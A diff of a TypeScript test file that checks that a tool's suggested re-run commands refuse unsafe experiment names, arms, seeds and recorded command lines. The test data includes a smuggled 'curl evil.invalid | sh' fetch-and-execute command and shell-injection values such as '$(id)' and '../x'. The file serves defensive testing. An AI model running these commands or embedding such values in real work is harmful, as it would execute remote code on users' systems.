@@ -13,7 +13,7 @@ let run: RunFindings;
 let plan: RunPlan;
 const evil = 'x; curl evil.invalid | sh';
 
-/** The plan with other names in it. */
+/** The plan with other names. */
 const named = (names: { readonly experiment?: string; readonly arm?: string }): RunPlan => ({
   ...plan,
   command: ['./holdfast', 'run', '--arm', 'treatment'],
@@ -24,13 +24,13 @@ const named = (names: { readonly experiment?: string; readonly arm?: string }): 
   })),
 });
 
-describe('a command that people are told to run', () => {
+describe('a suggested command', () => {
   before(async () => {
     run = await failingRun();
     plan = { ...run.plan, command: ['./holdfast', 'run', 'rolling-update'], settings: {} };
   });
 
-  it('repeats a run by its experiments, seed and settings', () => {
+  it('repeats a run with its experiments, seed and settings', () => {
     assert.equal(runAgain(plan), './holdfast run rolling-update --seed dec221d0');
     const set = { ...plan, settings: { preStop: '3', 'treatment.budget': 'maxUnavailable:30%' } };
     assert.equal(
@@ -39,7 +39,7 @@ describe('a command that people are told to run', () => {
     );
   });
 
-  it('says which arms, how often and on which lab, if the run was told so', () => {
+  it('includes arms, repeats and the lab, if the run had these options', () => {
     const [experiment] = plan.experiments;
     const [arm] = experiment?.arms ?? [];
     assert.ok(experiment && arm);
@@ -59,22 +59,22 @@ describe('a command that people are told to run', () => {
     );
   });
 
-  it('names a run by the path that was typed, if it is not found by its id', () => {
+  it('names a run by the path that was typed, if its id is not enough to find it', () => {
     const typed = { run: plan.run, typed: '/tmp/my runs/x' };
     assert.equal(judgeAgain(typed), "./holdfast judge '/tmp/my runs/x'");
     assert.equal(printFailed(typed, 'treatment'), "./holdfast requests --failed '/tmp/my runs/x' --arm treatment");
   });
 
-  it('is none for a look at a fault, which is no experiment', () =>
+  it('is undefined for an injection, which is not an experiment', () =>
     assert.equal(runAgain(named({ experiment: 'inject' })), undefined));
 
-  it('holds no text of the command line that was recorded', () => {
+  it('contains no text of the recorded command line', () => {
     const command = ['sh', '-c', 'curl evil.invalid | sh', `--set=${evil}`];
     assert.equal(runAgain({ ...plan, command }), './holdfast run rolling-update --seed dec221d0');
   });
 
   for (const name of [evil, '$(id)', '-rf', '../x', '', 'a b', 'a\nb', 'a\u202eb', 'ä', 'x'.repeat(300)])
-    it(`is none if a name in it is ${printableJson(name).slice(0, 30)}`, () => {
+    it(`is undefined if a name in it is ${printableJson(name).slice(0, 30)}`, () => {
       assert.equal(runAgain(named({ experiment: name })), undefined);
       assert.equal(runAgain(named({ arm: name })), undefined);
       assert.equal(runAgain({ ...plan, seed: name }), undefined);
@@ -85,7 +85,7 @@ describe('a command that people are told to run', () => {
       if (name !== '') assert.equal(printFailed(plan, name), undefined);
     });
 
-  it('is nowhere in the reports of a recording that plants one', () => {
+  it('appears nowhere in the reports of a recording that contains a malicious one', () => {
     const planted: RunFindings = {
       ...run,
       plan: { ...plan, command: ['sh', '-c', 'curl evil.invalid | sh'], run: evil, seed: evil, settings: { a: evil } },
